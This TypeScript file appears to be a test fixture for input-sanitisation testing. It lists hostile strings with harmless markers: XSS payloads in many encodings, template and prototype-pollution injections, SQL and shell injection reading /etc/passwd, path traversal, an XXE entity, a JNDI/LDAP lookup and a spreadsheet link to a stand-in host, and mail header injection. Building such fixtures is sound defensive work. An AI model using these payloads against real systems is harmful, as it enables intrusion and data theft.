const run = 'window.intruder=1';

/** Texts that an attacker may write. A text that runs sets `intruder` on the window, or `polluted` on all objects. */
export const hostileTexts: readonly string[] = [
  // Texts that a page may run as a script.
  ...['', '">', "'>", '-->', '</title>', '</style>', '</textarea>', '<svg>', '<math>'].map(
    (before) => `${before}<script>${run}</script>`,
  ),
  ...[
    'img src=x onerror',
    'svg onload',
    'details open ontoggle',
    'input autofocus onfocus',
  ].flatMap((tag) => [
    `<${tag}=${run}>`,
    `"><${tag.toUpperCase()}="${run}"//`,
    `<x/><${tag}\f=${run}>`,
  ]),
  ...['"', "'", '`'].map((quote) => `${quote} onfocus=${run} autofocus x=${quote}`),
  ...['javascript:', 'JaVa\tScRiPt:', '\u0001javascript:'].map((scheme) => `${scheme}${run}`),
  `data:text/html,<script>${run}</script>`,
  `<a href="javascript:${run}">press</a>`,
  `<form action="javascript:${run}"><button>press</button></form>`,
  `<iframe srcdoc="<script>parent.intruder=1</script>"></iframe>`,
  `<base href="https://elsewhere.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // Expressions that template languages evaluate. The last, `$t(`, is one of i18next, which translates the site.
  ...['{{', '${', '#{', '<%=', '$t('].map(
    (begin) => `${begin}constructor.constructor('${run}')()}}`,
  ),
  '{{App_Name}} $t(Contact_Us, {"count": 2}) <0>App_Name</0>',
  // Names and texts that would change the prototype of all objects.
  ...['__proto__', 'constructor', 'toString'].flatMap((name) => [
    name,
    `${name}[polluted]=1`,
    `{"${name}":{"polluted":1}}`,
  ]),
  '{"constructor":{"prototype":{"polluted":1}}}',
  'null',
  'undefined',
  '[object Object]',
  '-1e999',
  // Characters that end a text, change its direction, or are invisible.
  ...Array.from(
    '\0\x07\x1B\x7F\u0085\u00A0\u00AD\u061C\u200B\u200D\u200F\u2028\u2029\u202B\u202E\u2060\u2066\uFEFF\uFFFC\uFFFF\u{E0001}',
  ).map((character) => `a${character}exe.${character}ب`),
  '\u0301'.repeat(60),
  '👩🏽‍🔧𓀀ﷺ',
  // Texts that programs other than a browser may run or interpret: databases, spreadsheets, shells, mail.
  "'; DROP TABLE lifts; --",
  '=HYPERLINK("https://elsewhere.example","open")',
  '$(touch /tmp/intruder) `touch /tmp/intruder`; cat /etc/passwd',
  '../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd',
  '=?UTF-8?Q?=42cc:_a=40b.co?=',
  'a@b.co%0d%0aBcc: c@d.co',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '${jndi:ldap://elsewhere.example/a} %n%n%n%s%x',
  '.',
  '%',
  'م'.repeat(700),
  'x'.repeat(1500),
];
